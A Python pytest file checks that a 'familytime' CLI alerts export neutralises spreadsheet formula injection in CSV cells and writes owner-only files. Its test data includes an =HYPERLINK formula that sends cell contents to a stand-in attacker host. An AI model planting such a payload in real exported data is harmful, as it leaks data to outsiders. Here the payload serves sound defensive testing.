"""`familytime alerts export`: a note typed as a formula stays text; the files are owner-only."""

from __future__ import annotations

import asyncio
import csv
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from bot.cli import app
from storage.database import Database
from storage.models import Alert, Person
from tests.e2e.fixtures import MONDAY_MORNING, PEOPLE

runner = CliRunner()
NOTE = '=HYPERLINK("http://attacker.example.invalid/?"&A1,"Click")'


@pytest.fixture
def workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.chdir(tmp_path)
    for name in ("TELEGRAM_TOKEN", "SERVICE_CONFIG", "RUNTIME", "TELEGRAM_API_URL"):
        monkeypatch.delenv(f"FAMILYTIME_{name}", raising=False)
    monkeypatch.setenv("FAMILYTIME_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.sqlite3'}")
    (tmp_path / "people.csv").write_text(PEOPLE)
    assert runner.invoke(app, ["import", "--people", "people.csv"]).exit_code == 0
    previous = os.umask(0)  # the most permissive umask an administrator could have
    try:
        yield tmp_path
    finally:
        os.umask(previous)


def _raise_hostile_alert(workdir: Path) -> None:
    async def _add() -> None:
        db = Database(f"sqlite+aiosqlite:///{workdir / 'cli.sqlite3'}")
        async with db.unit_of_work() as uow:
            worker = await uow.scalar(select(Person).where(Person.ref == "W1"))
            assert worker is not None
            uow.add(
                Alert(
                    severity="urgent",
                    status="resolved",
                    raised_by_id=worker.id,
                    room="+Room 2",
                    note=NOTE,
                    raised_at=MONDAY_MORNING,
                    resolved_by_id=worker.id,
                    resolved_at=MONDAY_MORNING,
                    outcome="-Advice given",
                    resolution_note="@SUM(1+1)\tand a tab",
                )
            )
        await db.dispose()

    asyncio.run(_add())


def test_an_alert_export_defuses_formulas_and_is_owner_only(workdir: Path) -> None:
    _raise_hostile_alert(workdir)
    out = workdir / "exports" / "alerts"
    result = runner.invoke(app, ["alerts", "export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with (out / "alerts.csv").open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["note"] == f"'{NOTE}"
    assert row["room"] == "'+Room 2"
    assert row["outcome"] == "'-Advice given"
    assert row["resolution_note"] == "'@SUM(1+1)\tand a tab"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    (record,) = json.loads((out / "alerts.json").read_text(encoding="utf-8"))
    assert record["note"] == NOTE  # JSON isn't opened as cells: it keeps what was said
    for path in (out / "alerts.csv", out / "alerts.json"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in (out, out.parent):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
